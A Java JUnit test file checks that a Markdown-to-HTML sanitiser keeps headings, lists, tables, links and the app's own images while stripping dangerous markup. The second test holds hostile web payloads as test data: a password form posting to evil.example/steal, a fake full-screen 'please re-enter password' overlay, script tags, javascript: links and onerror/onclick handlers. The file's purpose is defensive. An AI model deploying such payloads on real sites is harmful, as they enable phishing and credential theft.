package org.yundangke.catalogue;

import static org.assertj.core.api.Assertions.assertThat;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;

/** What an editor writes reaches members as plain article HTML, and nothing that could restyle or overlay the app. */
class ArticleHtmlTest {

    static final String OWN_PICTURE = ArticleImages.URL_PREFIX + "0b8c6f1e-2d3a-4c5b-8e9f-a1b2c3d4e5f6.jpg";

    @Test
    void markdown_becomes_headings_lists_quotes_tables_links_and_own_pictures() {
        Document html = render("""
                ## 学习要点

                1. **坚定**信念
                2. *牢记*宗旨

                > 不忘初心

                | 时间 | 内容 |
                |---|---|
                | 上午 | 党课 |

                [学习强国](https://www.xuexi.cn) ![合影](%s)
                """.formatted(OWN_PICTURE));
        assertThat(html.select("h2").text()).isEqualTo("学习要点");
        assertThat(html.select("ol > li")).hasSize(2);
        assertThat(html.select("strong").text()).isEqualTo("坚定");
        assertThat(html.select("blockquote").text()).isEqualTo("不忘初心");
        assertThat(html.select("table td").eachText()).containsExactly("上午", "党课");
        assertThat(html.select("a").attr("href")).isEqualTo("https://www.xuexi.cn");
        assertThat(html.select("a").attr("rel")).isEqualTo("noopener noreferrer");
        assertThat(html.select("img").attr("src")).isEqualTo(OWN_PICTURE);
    }

    @Test
    void styles_forms_inputs_overlays_scripts_handlers_and_foreign_pictures_are_removed() {
        String markdown = """
                <style>vaadin-app-layout{filter:blur(3px)}</style>

                <form action="http://evil.example/steal"><input type="password" name="p"><button>登录</button></form>

                <div style="position:fixed;inset:0;z-index:9999;background:white">请重新输入密码</div>

                [点我](javascript:alert(1)) <a href="https://ok.example" onclick="steal()">链接</a>

                <img src="x" onerror="steal()"> ![追踪](https://evil.example/pixel.gif)

                <iframe src="https://evil.example"></iframe><script>steal()</script>

                <p style="color:red" class="ydk-danger" id="login">正文</p>
                """;
        String html = ArticleHtml.render(markdown);
        assertThat(html).doesNotContain("<style", "blur(", "<form", "<input", "password", "position:fixed", "style=",
                "javascript:", "onclick", "onerror", "evil.example", "<iframe", "<script", "steal()", "class=\"ydk-danger\"",
                "id=\"login\"");
        Document document = Jsoup.parse(html);
        assertThat(document.select("p").eachText()).contains("正文");
        assertThat(document.select("a[href=https://ok.example]").text()).isEqualTo("链接");
        assertThat(document.select("img")).isEmpty();
    }

    private static Document render(String markdown) {
        return Jsoup.parse(ArticleHtml.render(markdown));
    }
}
